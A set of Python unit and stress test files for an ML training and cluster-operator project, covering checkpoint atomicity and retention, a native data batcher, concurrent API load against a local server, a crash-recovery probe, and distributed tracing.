        data = (np.arange(10_000) % 60000).astype(dtype)
        idx = np.array([0, 17, 9000, 123], dtype=np.int64)
        out = gather(data, idx, 33)
        ref = np.stack([data[i: i + 33] for i in idx]).astype(np.int32)
        np.testing.assert_array_equal(out, ref)
    with pytest.raises(ValueError):
        gather(data, np.array([9999], dtype=np.int64), 33)  # out of range


def test_token_file_stream_uses_native_when_available(tmp_path):
    import numpy as np

    from kubeoperator_trn.native import load_batcher
    from kubeoperator_trn.train.data import token_file_stream

    toks = (np.arange(5000) % 333).astype(np.uint16)
    p = tmp_path / "t.bin"
    toks.tofile(p)
    s = token_file_stream(str(p), 4, 16, seed=3)
    b = next(s)
    assert b["inputs"].dtype == np.int32 and b["inputs"].shape == (4, 16)
    # native and fallback agree (determinism across code paths)
    if load_batcher() is not None:
        import kubeoperator_trn.native as native_mod
        orig = native_mod._CACHE.get("fn")
        native_mod._CACHE["fn"] = None
        try:
            s2 = token_file_stream(str(p), 4, 16, seed=3)
            b2 = next(s2)
        finally:
            native_mod._CACHE["fn"] = orig
        np.testing.assert_array_equal(b["inputs"], b2["inputs"])
