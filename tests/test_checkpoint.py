import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.train.checkpoint import (
    save_checkpoint,
    restore_checkpoint,
    latest_step,
)
from kubeoperator_trn.train.optim import adamw_init


def test_roundtrip(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    state = {"params": params, "opt": adamw_init(params)}
    save_checkpoint(str(tmp_path), 7, state, meta={"model": "llama3_tiny"})
    assert latest_step(str(tmp_path)) == 7
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 7
    flat_a = jax.tree_util.tree_leaves(state)
    flat_b = jax.tree_util.tree_leaves(restored)
    assert len(flat_a) == len(flat_b)
    for a, b in zip(flat_a, flat_b):
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))


def test_latest_overwrites(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    save_checkpoint(str(tmp_path), 1, {"params": params})
    save_checkpoint(str(tmp_path), 2, {"params": params})
    assert latest_step(str(tmp_path)) == 2
    _, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 2
