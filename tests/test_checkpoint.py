import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama
from kubeoperator_trn.train.checkpoint import (
    save_checkpoint,
    restore_checkpoint,
    latest_step,
)
from kubeoperator_trn.train.optim import adamw_init


def test_roundtrip(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    state = {"params": params, "opt": adamw_init(params)}
    save_checkpoint(str(tmp_path), 7, state, meta={"model": "llama3_tiny"})
    assert latest_step(str(tmp_path)) == 7
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 7
    flat_a = jax.tree_util.tree_leaves(state)
    flat_b = jax.tree_util.tree_leaves(restored)
    assert len(flat_a) == len(flat_b)
    for a, b in zip(flat_a, flat_b):
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))


def test_latest_overwrites(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    save_checkpoint(str(tmp_path), 1, {"params": params})
    save_checkpoint(str(tmp_path), 2, {"params": params})
    assert latest_step(str(tmp_path)) == 2
    _, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 2


def test_data_stream_resume_exact(tmp_path):
    """Batches are a pure function of (seed, step): a stream started at
    start_step=N produces exactly the batches the original stream
    yields from its Nth element (SURVEY §5.4 resume)."""
    import numpy as np

    from kubeoperator_trn.train.data import synthetic_stream, token_file_stream

    s0 = synthetic_stream(128, 4, 16, seed=7)
    batches = [next(s0) for _ in range(5)]
    s3 = synthetic_stream(128, 4, 16, seed=7, start_step=3)
    for want in batches[3:]:
        got = next(s3)
        np.testing.assert_array_equal(want["inputs"], got["inputs"])
        np.testing.assert_array_equal(want["targets"], got["targets"])

    toks = np.arange(5000, dtype=np.uint16) % 333
    p = tmp_path / "toks.bin"
    toks.tofile(p)
    t0 = token_file_stream(str(p), 4, 16, seed=5)
    tb = [next(t0) for _ in range(4)]
    t2 = token_file_stream(str(p), 4, 16, seed=5, start_step=2)
    np.testing.assert_array_equal(tb[2]["inputs"], next(t2)["inputs"])
    np.testing.assert_array_equal(tb[3]["inputs"], next(t2)["inputs"])


def test_native_batcher_matches_numpy(tmp_path):
    """C++ gather_crops == the numpy crop loop (and builds on demand);
    skipped cleanly where no toolchain exists."""
    import numpy as np
    import pytest

    from kubeoperator_trn.native import load_batcher

    gather = load_batcher()
    if gather is None:
        pytest.skip("no C++ toolchain in this environment")
    for dtype in (np.uint16, np.uint32):
        data = (np.arange(10_000) % 60000).astype(dtype)
        idx = np.array([0, 17, 9000, 123], dtype=np.int64)
        out = gather(data, idx, 33)
        ref = np.stack([data[i: i + 33] for i in idx]).astype(np.int32)
        np.testing.assert_array_equal(out, ref)
    with pytest.raises(ValueError):
        gather(data, np.array([9999], dtype=np.int64), 33)  # out of range


def test_token_file_stream_uses_native_when_available(tmp_path):
    import numpy as np

    from kubeoperator_trn.native import load_batcher
    from kubeoperator_trn.train.data import token_file_stream

    toks = (np.arange(5000) % 333).astype(np.uint16)
    p = tmp_path / "t.bin"
    toks.tofile(p)
    s = token_file_stream(str(p), 4, 16, seed=3)
    b = next(s)
    assert b["inputs"].dtype == np.int32 and b["inputs"].shape == (4, 16)
    # native and fallback agree (determinism across code paths)
    if load_batcher() is not None:
        import kubeoperator_trn.native as native_mod
        orig = native_mod._CACHE.get("fn")
        native_mod._CACHE["fn"] = None
        try:
            s2 = token_file_stream(str(p), 4, 16, seed=3)
            b2 = next(s2)
        finally:
            native_mod._CACHE["fn"] = orig
        np.testing.assert_array_equal(b["inputs"], b2["inputs"])


# -- ISSUE 7 satellites: crash-safe writes, fallback, retention ---------

def _tiny_state(seed=0):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(seed))
    return {"params": params, "opt": adamw_init(params)}


def test_atomic_write_leaves_no_staging(tmp_path):
    """A completed save never leaves a ``.tmp_step_*`` dir behind, and a
    crash leftover from a previous run is swept by the next save."""
    from kubeoperator_trn.train.checkpoint import available_steps

    state = _tiny_state()
    crash_leftover = tmp_path / ".tmp_step_99"
    crash_leftover.mkdir()
    (crash_leftover / "arrays.npz").write_bytes(b"partial garbage")

    save_checkpoint(str(tmp_path), 1, state, keep=3)
    names = sorted(p.name for p in tmp_path.iterdir())
    assert not any(n.startswith(".tmp_step_") for n in names), names
    assert not any(n == ".LATEST.tmp" for n in names), names
    # the staged-but-never-promoted dir is invisible to step discovery
    assert available_steps(str(tmp_path)) == [1]


def test_resave_same_step_replaces(tmp_path):
    """Saving the same step twice (preempt save riding a cadence save)
    replaces the dir instead of failing the rename."""
    state = _tiny_state()
    save_checkpoint(str(tmp_path), 4, state, meta={"try": 1}, keep=3)
    save_checkpoint(str(tmp_path), 4, state, meta={"try": 2}, keep=3)
    _, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 4
    assert manifest["meta"]["try"] == 2


def test_corrupt_step_falls_back(tmp_path, capsys):
    """A step whose npz disagrees with its manifest is skipped: restore
    falls back to the next-newest complete step, warns, and bumps the
    fallback counter."""
    from kubeoperator_trn.telemetry import get_registry

    state = _tiny_state()
    save_checkpoint(str(tmp_path), 1, state, keep=0)
    save_checkpoint(str(tmp_path), 2, state, keep=0)
    # truncate step_2's arrays so the manifest/npz key check trips
    np.savez(tmp_path / "step_2" / "arrays.npz", only_key=np.zeros(1))

    ctr = get_registry().counter(
        "ko_work_train_checkpoint_fallbacks_total",
        "Restores that fell back past a corrupt/partial step")
    before = ctr.value
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 1
    assert ctr.value == before + 1
    assert "falling back" in capsys.readouterr().err
    flat_a = jax.tree_util.tree_leaves(state)
    flat_b = jax.tree_util.tree_leaves(restored)
    for a, b in zip(flat_a, flat_b):
        np.testing.assert_array_equal(np.asarray(a), np.asarray(b))


def test_all_steps_corrupt_raises(tmp_path):
    import pytest

    state = _tiny_state()
    save_checkpoint(str(tmp_path), 1, state, keep=0)
    np.savez(tmp_path / "step_1" / "arrays.npz", only_key=np.zeros(1))
    with pytest.raises(FileNotFoundError, match="no loadable checkpoint"):
        restore_checkpoint(str(tmp_path))


def test_retention_prunes_oldest(tmp_path):
    from kubeoperator_trn.train.checkpoint import available_steps

    state = _tiny_state()
    for s in (1, 2, 3, 4, 5):
        save_checkpoint(str(tmp_path), s, state, keep=3)
    assert available_steps(str(tmp_path)) == [3, 4, 5]
    assert latest_step(str(tmp_path)) == 5
    # keep<=0 disables pruning
    save_checkpoint(str(tmp_path), 6, state, keep=0)
    assert available_steps(str(tmp_path)) == [3, 4, 5, 6]


def test_retention_never_prunes_latest(tmp_path):
    """Even when LATEST names a step older than the keep window (an
    operator rolled the pointer back), pruning spares it — a resume must
    never chase a dangling pointer."""
    from kubeoperator_trn.train.checkpoint import (
        available_steps,
        prune_checkpoints,
    )

    state = _tiny_state()
    for s in (1, 2, 3, 4):
        save_checkpoint(str(tmp_path), s, state, keep=0)
    (tmp_path / "LATEST").write_text("1")
    pruned = prune_checkpoints(str(tmp_path), keep=1)
    assert pruned == [2, 3]
    assert available_steps(str(tmp_path)) == [1, 4]
    restored, manifest = restore_checkpoint(str(tmp_path))
    assert manifest["step"] == 1


def test_resolve_keep_env(monkeypatch):
    from kubeoperator_trn.train.checkpoint import resolve_keep

    monkeypatch.delenv("KO_CHECKPOINT_KEEP", raising=False)
    assert resolve_keep() == 3
    monkeypatch.setenv("KO_CHECKPOINT_KEEP", "7")
    assert resolve_keep() == 7
    monkeypatch.setenv("KO_CHECKPOINT_KEEP", "junk")
    assert resolve_keep() == 3
    assert resolve_keep(5) == 5
