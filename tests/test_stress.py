"""Thread-safety of engine+API under concurrent load (SURVEY §5.2 —
the Python stack has no `go test -race`; this is the systematic
equivalent: hammer the live HTTP server from many threads and assert
no 5xx, no lost writes, and a consistent DB)."""

import json
import threading
import urllib.request

import pytest

from kubeoperator_trn.cluster.api import make_server
from kubeoperator_trn.cluster.runner import FakeRunner
from kubeoperator_trn.server import build_app


def _req(base, token, method, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    r = urllib.request.Request(base + path, data=data, method=method)
    r.add_header("Content-Type", "application/json")
    if token:
        r.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(r, timeout=30) as resp:
            return resp.status, json.loads(resp.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


@pytest.fixture()
def live():
    runner = FakeRunner()
    api, engine, db = build_app(runner=runner, admin_password="pw", workers=4)
    server, thread = make_server(api)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    yield base, engine, db
    engine.shutdown()
    server.shutdown()


def test_concurrent_clients_no_500s_no_lost_writes(live):
    base, engine, db = live
    n_workers, per_worker = 8, 6
    errors = []
    statuses = []
    lock = threading.Lock()

    def worker(w):
        try:
            _, out = _req(base, None, "POST", "/api/v1/auth/login",
                          {"username": "admin", "password": "pw"})
            tok = out["token"]
            _, h = _req(base, tok, "POST", "/api/v1/hosts",
                        {"name": f"w{w}-host", "ip": f"10.7.{w}.1"})
            for i in range(per_worker):
                s, out = _req(base, tok, "POST", "/api/v1/clusters", {
                    "name": f"w{w}-c{i}",
                    "nodes": [{"name": f"w{w}-c{i}-m0", "host_id": h["id"],
                               "role": "master"}],
                })
                with lock:
                    statuses.append(s)
                _req(base, tok, "GET", "/api/v1/clusters")
                _req(base, tok, "GET", "/api/v1/tasks")
                _req(base, tok, "GET", f"/api/v1/tasks/{out.get('task_id','x')}/logs")
        except Exception as exc:  # noqa: BLE001
            with lock:
                errors.append(repr(exc))

    threads = [threading.Thread(target=worker, args=(w,))
               for w in range(n_workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
    # every create accepted, none dropped by races
    assert statuses.count(202) == n_workers * per_worker, statuses
    clusters = db.list("clusters")
    assert len(clusters) == n_workers * per_worker
    # all tasks drain to a terminal state
    for t_ in db.list("tasks"):
        assert engine.wait(t_["id"], timeout=60)
    terminal = {t_["status"] for t_ in db.list("tasks")}
    assert terminal <= {"Success", "Failed"}, terminal
    assert terminal == {"Success"}


def test_concurrent_login_logout_token_table(live):
    """Token table under simultaneous login/logout/authed traffic —
    exercises the lock added after the round-2 code review."""
    base, engine, db = live
    errors = []

    def churn(i):
        try:
            for _ in range(10):
                _, out = _req(base, None, "POST", "/api/v1/auth/login",
                              {"username": "admin", "password": "pw"})
                tok = out["token"]
                s, _ = _req(base, tok, "GET", "/api/v1/clusters")
                assert s == 200
                s, _ = _req(base, tok, "POST", "/api/v1/auth/logout")
                assert s == 200
                s, _ = _req(base, tok, "GET", "/api/v1/clusters")
                assert s == 401
        except Exception as exc:  # noqa: BLE001
            errors.append(repr(exc))

    threads = [threading.Thread(target=churn, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
