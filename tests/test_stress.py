"""Thread-safety of engine+API under concurrent load (SURVEY §5.2 —
the Python stack has no `go test -race`; this is the systematic
equivalent: hammer the live HTTP server from many threads and assert
no 5xx, no lost writes, and a consistent DB)."""

import json
import threading
import urllib.request

import pytest

from kubeoperator_trn.cluster.api import make_server
from kubeoperator_trn.cluster.runner import FakeRunner
from kubeoperator_trn.server import build_app


def _req(base, token, method, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    r = urllib.request.Request(base + path, data=data, method=method)
    r.add_header("Content-Type", "application/json")
    if token:
        r.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(r, timeout=30) as resp:
            return resp.status, json.loads(resp.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


@pytest.fixture()
def live():
    runner = FakeRunner()
    api, engine, db = build_app(runner=runner, admin_password="pw", workers=4)
    server, thread = make_server(api)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    yield base, engine, db
    engine.shutdown()
    server.shutdown()


def test_concurrent_clients_no_500s_no_lost_writes(live):
    base, engine, db = live
    n_workers, per_worker = 8, 6
    errors = []
    statuses = []
    lock = threading.Lock()

    def worker(w):
        try:
            _, out = _req(base, None, "POST", "/api/v1/auth/login",
                          {"username": "admin", "password": "pw"})
            tok = out["token"]
            for i in range(per_worker):
                # one host per cluster: a host row may be bound to at
                # most one live cluster (create rejects reuse with 400)
                _, h = _req(base, tok, "POST", "/api/v1/hosts",
                            {"name": f"w{w}-host{i}", "ip": f"10.7.{w}.{i+1}"})
                s, out = _req(base, tok, "POST", "/api/v1/clusters", {
                    "name": f"w{w}-c{i}",
                    "nodes": [{"name": f"w{w}-c{i}-m0", "host_id": h["id"],
                               "role": "master"}],
                })
                with lock:
                    statuses.append(s)
                _req(base, tok, "GET", "/api/v1/clusters")
                _req(base, tok, "GET", "/api/v1/tasks")
                _req(base, tok, "GET", f"/api/v1/tasks/{out.get('task_id','x')}/logs")
        except Exception as exc:  # noqa: BLE001
            with lock:
                errors.append(repr(exc))

    threads = [threading.Thread(target=worker, args=(w,))
               for w in range(n_workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors
    # every create accepted, none dropped by races
    assert statuses.count(202) == n_workers * per_worker, statuses
    clusters = db.list("clusters")
    assert len(clusters) == n_workers * per_worker
    # all tasks drain to a terminal state
    for t_ in db.list("tasks"):
        assert engine.wait(t_["id"], timeout=60)
    terminal = {t_["status"] for t_ in db.list("tasks")}
    assert terminal <= {"Success", "Failed"}, terminal
    assert terminal == {"Success"}


def test_concurrent_login_logout_token_table(live):
    """Token table under simultaneous login/logout/authed traffic —
    exercises the lock added after the round-2 code review."""
    base, engine, db = live
    errors = []

    def churn(i):
        try:
            for _ in range(10):
                _, out = _req(base, None, "POST", "/api/v1/auth/login",
                              {"username": "admin", "password": "pw"})
                tok = out["token"]
                s, _ = _req(base, tok, "GET", "/api/v1/clusters")
                assert s == 200
                s, _ = _req(base, tok, "POST", "/api/v1/auth/logout")
                assert s == 200
                s, _ = _req(base, tok, "GET", "/api/v1/clusters")
                assert s == 401
        except Exception as exc:  # noqa: BLE001
            errors.append(repr(exc))

    threads = [threading.Thread(target=churn, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert not errors, errors


def test_scale_rejects_duplicate_names_and_bound_hosts(live):
    """VERDICT r2 weak #7: scale_cluster must 400 on duplicate node
    names and on a host_id already bound to another live cluster."""
    base, engine, db = live
    _, out = _req(base, None, "POST", "/api/v1/auth/login",
                  {"username": "admin", "password": "pw"})
    tok = out["token"]
    _, h1 = _req(base, tok, "POST", "/api/v1/hosts",
                 {"name": "sv-h1", "ip": "10.9.0.1"})
    _, h2 = _req(base, tok, "POST", "/api/v1/hosts",
                 {"name": "sv-h2", "ip": "10.9.0.2"})
    _, h3 = _req(base, tok, "POST", "/api/v1/hosts",
                 {"name": "sv-h3", "ip": "10.9.0.3"})
    s, a = _req(base, tok, "POST", "/api/v1/clusters",
                {"name": "sv-a",
                 "nodes": [{"name": "a-m0", "host_id": h1["id"],
                            "role": "master"}]})
    assert s == 202
    s, b = _req(base, tok, "POST", "/api/v1/clusters",
                {"name": "sv-b",
                 "nodes": [{"name": "b-m0", "host_id": h2["id"],
                            "role": "master"}]})
    assert s == 202
    assert engine.wait(a["task_id"], timeout=60)
    assert engine.wait(b["task_id"], timeout=60)

    # duplicate node name within the cluster
    s, out = _req(base, tok, "POST", "/api/v1/clusters/sv-a/nodes",
                  {"add": [{"name": "a-m0", "host_id": h3["id"]}]})
    assert s == 400, out
    # duplicate node name within the same request
    s, out = _req(base, tok, "POST", "/api/v1/clusters/sv-a/nodes",
                  {"add": [{"name": "a-w0", "host_id": h3["id"]},
                           {"name": "a-w0", "host_id": h3["id"]}]})
    assert s == 400, out
    # host bound to the other cluster
    s, out = _req(base, tok, "POST", "/api/v1/clusters/sv-a/nodes",
                  {"add": [{"name": "a-w1", "host_id": h2["id"]}]})
    assert s == 400, out
    # clean add still works
    s, out = _req(base, tok, "POST", "/api/v1/clusters/sv-a/nodes",
                  {"add": [{"name": "a-w2", "host_id": h3["id"]}]})
    assert s == 202, out
    assert engine.wait(out["task_id"], timeout=60)


def test_reap_bounds_tokens_and_monitor_samples():
    """VERDICT r2 weak #6: expired tokens and stale monitor samples are
    reaped periodically, not only on logout / never."""
    from kubeoperator_trn.server import build_app

    api, engine, db = build_app(runner=FakeRunner(), admin_password="pw",
                                workers=1)
    try:
        api.REAP_INTERVAL_S = 0.0
        api.MONITOR_SAMPLE_TTL_S = 0.0
        api.TOKEN_TTL_S = -1  # every login lands already expired
        for i in range(5):
            s, out = api.handle("POST", "/api/v1/auth/login",
                                {"username": "admin", "password": "pw"}, {})
            assert s == 200
        s, _ = api.handle("POST", "/monitor/report",
                          {"node": "gone-node", "sample": {"neuroncore_utilization": 1}},
                          {})
        assert s == 200
        # any request triggers the amortized reap
        api.handle("GET", "/healthz", {}, {})
        assert not api.tokens, api.tokens
        assert not api.monitor_samples
        assert not api._monitor_ts
    finally:
        engine.shutdown()


def test_concurrent_creates_cannot_double_bind_one_host(live):
    """ADVICE r3: the host bound-check is check-then-act; without the
    service bind_lock two concurrent creates naming the same host_id
    both pass validation and double-bind it.  Race N creates at the
    same host: exactly one 202, the rest 400 host_bound."""
    base, engine, db = live
    _, out = _req(base, None, "POST", "/api/v1/auth/login",
                  {"username": "admin", "password": "pw"})
    tok = out["token"]
    _, h = _req(base, tok, "POST", "/api/v1/hosts",
                {"name": "contested", "ip": "10.9.0.1"})

    n = 8
    barrier = threading.Barrier(n)
    results = []
    lock = threading.Lock()

    def creator(i):
        barrier.wait()
        s, out = _req(base, tok, "POST", "/api/v1/clusters",
                      {"name": f"race-{i}",
                       "nodes": [{"name": f"race-{i}-m0", "host_id": h["id"],
                                  "role": "master"}]})
        with lock:
            results.append((s, out))

    threads = [threading.Thread(target=creator, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    wins = [r for r in results if r[0] == 202]
    losses = [r for r in results if r[0] == 400]
    assert len(wins) == 1, results
    assert len(losses) == n - 1, results
    host = db.get("hosts", h["id"])
    assert host["cluster_id"] == wins[0][1]["cluster"]["id"]
    engine.wait(wins[0][1]["task_id"], timeout=60)
