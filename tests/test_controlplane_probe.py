"""Smoke for tools/controlplane_probe.py (ISSUE 12): the control-plane
crash drill must pass end to end on CPU in fast mode.  The drill asserts
the interesting invariants itself (SIGKILL mid-create resumes from the
first non-Success phase with zero duplicate phase side effects, the
persisted restart not_before survives engine death and is honored, and
priority preemption checkpoints-then-restarts a training task) and exits
nonzero on any miss — this test just runs it the way CI and sweep.py do."""

import json
import os
import subprocess
import sys

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PROBE = os.path.join(REPO, "tools", "controlplane_probe.py")


def test_controlplane_probe_fast_mode_passes():
    """The sweep row's exact command under KO_PROBE_FAST: exit 0 IS the
    crash-resume + persisted-backoff + preemption acceptance check."""
    env = dict(os.environ, KO_PROBE_FAST="1", JAX_PLATFORMS="cpu")
    proc = subprocess.run(
        [sys.executable, PROBE], env=env, cwd=REPO, timeout=300,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    assert proc.returncode == 0, proc.stdout[-4000:]
    last = [ln for ln in proc.stdout.splitlines()
            if ln.strip().startswith("{")][-1]
    out = json.loads(last)
    assert out["probe"] == "controlplane" and out["checks_failed"] == 0
