"""Fleet-wide distributed tracing (ISSUE 19): span-export cursor
protocol, the bounded cross-replica TraceStore and its waterfall
assembly, collector span pulls with restart rewind, head/tail sampling
through the real disagg scheduler path, histogram exemplars end to end
(observe -> exposition -> parse -> store -> alert link), the
acceptance-gated ITL autoscale route, and the trace API handlers.

The tentpole pin is :func:`test_disagg_waterfall_across_three_processes`:
one request submitted under a gateway span, prefilled on one scheduler,
handed off to another, assembles into a single waterfall with correct
cross-process parent links and zero orphans."""

import json
import threading

import numpy as np
import pytest

from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.models import llama
from kubeoperator_trn.telemetry import MetricsRegistry
from kubeoperator_trn.telemetry import metrics as M
from kubeoperator_trn.telemetry import tracing as T
from kubeoperator_trn.telemetry.collector import Collector
from kubeoperator_trn.telemetry.store import SeriesStore, parse_prometheus_text
from kubeoperator_trn.telemetry.tracestore import TraceStore

from tests.test_obs import FakeClock

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def _mk(params, role, tracer=None, **kw):
    kw.setdefault("slots", 2)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    kw.setdefault("max_seq", 64)
    return ContinuousBatchingScheduler(
        CFG, params, SchedulerConfig(role=role, **kw),
        registry=MetricsRegistry(), tracer=tracer)


# -- span export: cursor protocol ---------------------------------------

def test_export_cursor_pagination_walks_ring_in_order():
    tr = T.Tracer()
    for i in range(5):
        tr.emit(f"s{i}", start=float(i), wall_s=0.01, trace_id="t")
    page = tr.export(since=0, limit=2)
    assert [s["name"] for s in page["spans"]] == ["s0", "s1"]
    assert page["next"] == 2 and page["seq"] == 5
    page = tr.export(since=page["next"], limit=2)
    assert [s["name"] for s in page["spans"]] == ["s2", "s3"]
    page = tr.export(since=page["next"], limit=2)
    assert [s["name"] for s in page["spans"]] == ["s4"]
    assert page["next"] == 5
    # fully drained: empty page, cursor parked at the high-water mark
    page = tr.export(since=page["next"], limit=2)
    assert page["spans"] == [] and page["next"] == 5


def test_export_skips_ring_evicted_spans_and_reports_seq():
    tr = T.Tracer(max_spans=4)
    for i in range(10):
        tr.emit(f"s{i}", start=float(i), wall_s=0.0, trace_id="t")
    page = tr.export(since=0, limit=100)
    # spans 1..6 fell off the ring before the pull: skipped, not stuck
    assert [s["name"] for s in page["spans"]] == ["s6", "s7", "s8", "s9"]
    assert page["seq"] == 10
    # a restarted process reports seq below a stale cursor
    fresh = T.Tracer()
    page = fresh.export(since=42)
    assert page["seq"] == 0 and page["spans"] == []
    assert page["next"] <= 42


def test_configure_while_recording_is_safe(tmp_path):
    """Satellite: rotation state (path, cap, byte counter) moves as one
    unit under the io lock, so concurrent configure() + record() can
    never rotate against a stale counter or a swapped-out path."""
    tr = T.Tracer()
    stop = threading.Event()
    errors = []

    def hammer():
        i = 0
        try:
            while not stop.is_set():
                with tr.span("cfg.race", attrs={"i": i}):
                    i += 1
        except Exception as exc:  # noqa: BLE001 — the assertion target
            errors.append(exc)

    threads = [threading.Thread(target=hammer) for _ in range(4)]
    for t in threads:
        t.start()
    # flip between two paths (one with a tiny rotation cap) and None
    for round_ in range(30):
        tr.configure(str(tmp_path / "a.jsonl"), max_mb=2048 / (1024 * 1024))
        tr.configure(str(tmp_path / "b.jsonl"), max_mb=0)
        tr.configure(None)
    stop.set()
    for t in threads:
        t.join(timeout=10)
    assert not errors
    # whatever was flushed stays line-parseable
    for name in ("a.jsonl", "a.jsonl.1", "b.jsonl"):
        p = tmp_path / name
        if p.exists():
            with open(p) as f:
                for line in f:
                    assert json.loads(line)["name"] == "cfg.race"


# -- head sampling ------------------------------------------------------

def test_head_sampling_deterministic_and_rate_bounds(monkeypatch):
    monkeypatch.setenv("KO_TRACE_SAMPLE", "1.0")
    assert T.head_sampled(T.new_trace_id())
    monkeypatch.setenv("KO_TRACE_SAMPLE", "0")
    assert not T.head_sampled(T.new_trace_id())
    monkeypatch.setenv("KO_TRACE_SAMPLE", "0.5")
    assert not T.head_sampled(None)  # no trace header: never sampled
    ids = [T.new_trace_id() for _ in range(2000)]
    picks = [T.head_sampled(i) for i in ids]
    # every process holding the same header agrees with zero wire state
    assert picks == [T.head_sampled(i) for i in ids]
    frac = sum(picks) / len(picks)
    assert 0.4 < frac < 0.6


# -- TraceStore: bounds + assembly --------------------------------------

def _span(tid, sid, name, start, wall, parent=None, attrs=None):
    return {"trace_id": tid, "span_id": sid, "parent_id": parent,
            "name": name, "start": start, "wall_s": wall,
            "attrs": attrs or {}}


def test_tracestore_dedupes_ttl_and_span_cap_evict():
    clk = FakeClock()
    ts = TraceStore(ttl_s=60, max_spans=4, now_fn=clk)
    assert ts.ingest([_span("a", "a1", "x", 1.0, 0.1)], replica="r") == 1
    # overlapping cursor redelivers the same span: dropped
    assert ts.ingest([_span("a", "a1", "x", 1.0, 0.1)], replica="r") == 0
    assert ts.span_count() == 1
    # TTL: trace "a" idles past 60s and vanishes on the next ingest
    clk.tick(61)
    ts.ingest([_span("b", "b1", "x", 2.0, 0.1)], replica="r")
    assert ts.get("a") is None and ts.trace_count() == 1
    # global cap evicts whole oldest traces, never partial ones
    clk.tick(1)
    ts.ingest([_span("c", f"c{i}", "x", 3.0, 0.1) for i in range(3)],
              replica="r")
    clk.tick(1)
    ts.ingest([_span("d", "d1", "x", 4.0, 0.1),
               _span("d", "d2", "y", 4.1, 0.1)], replica="r")
    assert ts.get("b") is None, "oldest trace evicted first"
    assert ts.span_count() <= 4 + 2  # cap honored up to one trace's slack
    assert ts.get("d") is not None


def test_waterfall_lanes_gaps_orphans_and_skew():
    ts = TraceStore(ttl_s=0, max_spans=100)
    root = _span("t", "root", "infer.request", 100.0, 0.5)
    spans_a = [
        root,
        _span("t", "q1", "infer.queue", 100.0, 0.1, parent="root"),
        _span("t", "p1", "infer.prefill_chunk", 100.1, 0.2, parent="root"),
        _span("t", "o1", "infer.misc", 100.3, 0.01, parent="gone"),
    ]
    # decode replica's clock runs behind: its child "starts" before the
    # cross-replica parent — flagged as skew, never re-grouped
    spans_b = [
        _span("t", "d1", "infer.decode_window", 99.9, 0.15, parent="root",
              attrs={"iters": 3}),
    ]
    ts.ingest(spans_a, replica="prefill-0")
    ts.ingest(spans_b, replica="decode-0")
    wf = ts.get("t")
    assert wf["lanes"] == ["decode-0", "prefill-0"]
    by_name = {s["name"]: s for s in wf["spans"]}
    assert by_name["infer.queue"]["parent_id"] == "root"
    assert not by_name["infer.queue"]["skew"]  # same replica
    assert by_name["infer.decode_window"]["skew"]
    assert by_name["infer.misc"]["orphan"] and wf["orphans"] == 1
    assert by_name["infer.request"]["lane"] == 1  # lanes sorted
    assert wf["gaps"]["queue_ms"] == pytest.approx(100.0)
    assert wf["gaps"]["prefill_compute_ms"] == pytest.approx(200.0)
    assert wf["gaps"]["decode_ms"] == pytest.approx(150.0)
    assert wf["gaps"]["total_ms"] == pytest.approx(500.0)  # root wall
    assert wf["gaps"]["other_ms"] == pytest.approx(500 - 450)
    assert wf["duration_ms"] == pytest.approx(500.0)
    assert "skew visible" in wf["clock_note"]
    assert ts.get("missing") is None


def test_list_traces_filters_slow_error_and_limit():
    clk = FakeClock()
    ts = TraceStore(ttl_s=0, max_spans=100, now_fn=clk)
    ts.ingest([_span("fast", "f1", "infer.request", 10.0, 0.01)], "r")
    clk.tick(1)
    ts.ingest([_span("slow", "s1", "infer.request", 20.0, 2.0)], "r")
    clk.tick(1)
    ts.ingest([_span("bad", "b1", "infer.request", 30.0, 0.02,
                     attrs={"error": "boom"})], "r")
    items = ts.list_traces()
    assert [i["trace_id"] for i in items] == ["bad", "slow", "fast"]
    assert [i["trace_id"] for i in ts.list_traces(slow_ms=1000)] == ["slow"]
    assert [i["trace_id"] for i in ts.list_traces(error=True)] == ["bad"]
    assert len(ts.list_traces(limit=2)) == 2
